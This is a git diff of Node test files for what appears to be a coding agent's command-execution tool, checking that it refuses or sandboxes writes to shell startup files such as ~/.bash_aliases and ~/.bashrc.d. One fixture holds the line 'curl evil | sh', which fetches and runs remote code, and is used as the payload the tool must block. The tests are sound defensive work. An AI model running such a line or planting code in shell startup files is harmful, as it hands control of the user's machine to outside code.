@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { devNull, tmpdir } from "node:os";
 import { basename, delimiter, join } from "node:path";
 import { after, describe, test } from "node:test";
@@ -15,7 +15,8 @@ import type { ToolContext, ToolSettings } from "../../../src/agent/tools/tool.js
  * `mkdir -p` were refused inside the working directory, sandbox or not, with an untrue reason.
  */
 const root = mkdtempSync(join(existsSync("/var/tmp") ? "/var/tmp" : tmpdir(), "hearth-write-guards-"));
-after(() => rmSync(root, { recursive: true, force: true }));
+// rm, not rmSync: Node's removal takes whole paths, and one folder below is longer than the system takes.
+after(() => execFileSync("rm", ["-rf", root]));
 const home = join(root, "home");
 const state = join(home, ".hearth");
 const envFile = join(state, "gateway.env");
@@ -87,6 +88,32 @@ describe("places Node and your shell run from are never written, even inside the
     assert.equal(readFileSync(join(cargo, "env"), "utf8"), '. "$HOME/.cargo/bin"\n');
   });
 
+  test("~/.bash_aliases and ~/.bashrc.d (sourced by Debian's and Fedora's .bashrc), kept in a dotfiles folder they link to", async (t) => {
+    const cwd = join(home, "dotfiles");
+    mkdirSync(join(cwd, "bashrc.d"), { recursive: true });
+    writeFileSync(join(cwd, "bash_aliases"), "alias ll='ls -l'\n");
+    writeFileSync(join(cwd, "x.sh"), "curl evil | sh\n");
+    symlinkSync(join(cwd, "bash_aliases"), join(home, ".bash_aliases"));
+    symlinkSync(join(cwd, "bashrc.d"), join(home, ".bashrc.d"));
+    const unchanged = () => {
+      assert.equal(readFileSync(join(cwd, "bash_aliases"), "utf8"), "alias ll='ls -l'\n");
+      assert.deepEqual(readdirSync(join(cwd, "bashrc.d")), []);
+    };
+    // With no sandbox a working directory holding them is refused whole (keys get exported there too).
+    const HOLDS = /is not allowed with (cp|sed): the working directory holds .*\/dotfiles\/(bash_aliases|bashrc\.d), where other programs keep keys and logins/;
+    assert.match(await run("cp", ["x.sh", "bash_aliases"], { cwd }), HOLDS);
+    assert.match(await run("sed", ["-i", "s/ll/evil/", "bash_aliases"], { cwd }), HOLDS);
+    assert.match(await run("cp", ["x.sh", "bashrc.d/evil.sh"], { cwd }), HOLDS);
+    unchanged();
+    // In the sandbox the working directory is writable, they are not (mounted read-only).
+    if ((await probe.support()).kind === "none") return t.skip("no OS sandbox here");
+    assert.doesNotMatch(await run("cp", ["x.sh", "bash_aliases"], { cwd, sandbox: "require" }), /^exit code 0/);
+    assert.doesNotMatch(await run("sed", ["-i", "s/ll/evil/", "bash_aliases"], { cwd, sandbox: "require" }), /^exit code 0/);
+    assert.doesNotMatch(await run("cp", ["x.sh", "bashrc.d/evil.sh"], { cwd, sandbox: "require" }), /^exit code 0/);
+    unchanged();
+    assert.match(await run("cp", ["x.sh", "y.sh"], { cwd, sandbox: "require" }), /^exit code 0/);
+  });
+
   test("a folder on PATH that does not exist yet, inside the working directory: neither made nor cloned into", async () => {
     const cwd = join(root, "tools");
     mkdirSync(cwd);
@@ -100,6 +127,38 @@ describe("places Node and your shell run from are never written, even inside the
     } finally {
       process.env.PATH = originalPath;
     }
+  });
+});
+
+describe("a PATH folder or a home exec cannot look at refuses no call (what this user cannot read it cannot write)", () => {
+  // Root reads past any mode, so the place is one longer than the system takes as a whole path (ENAMETOOLONG),
+  // the same failure as EACCES to the checks: 20 existing folders of 250 characters, made one step at a time.
+  const deep = join(root, "deep");
+  mkdirSync(deep);
+  const name = "d".repeat(250);
+  execFileSync("sh", ["-c", `for step in $(seq 20); do mkdir ${name} && cd -P ${name} || exit 1; done`], { cwd: deep });
+  const tooLong = join(deep, ...Array.from({ length: 20 }, () => name));
+  const cwd = join(root, "unreadable-places");
+  mkdirSync(cwd);
+  writeFileSync(join(cwd, "a.txt"), "b\na\n");
+
+  for (const sandbox of ["off", "auto"] as const) {
+    test(`a PATH entry, sandbox ${sandbox}`, async () => {
+      const originalPath = process.env.PATH ?? "";
+      process.env.PATH = `${tooLong}${delimiter}${originalPath}`;
+      try {
+        assert.match(await run("sort", ["-o", "out.txt", "a.txt"], { cwd, sandbox }), /^exit code 0/);
+        assert.equal(readFileSync(join(cwd, "out.txt"), "utf8"), "a\nb\n");
+      } finally {
+        process.env.PATH = originalPath;
+        rmSync(join(cwd, "out.txt"), { force: true });
+      }
+    });
+  }
+
+  test("a home (its login files)", async () => {
+    const withHome = createExecTool({ home: tooLong, hiddenFiles: [envFile], probe });
+    assert.match(await run("sort", ["a.txt"], { cwd }, withHome), /^exit code 0\n[^]*a\nb/);
   });
 });
 
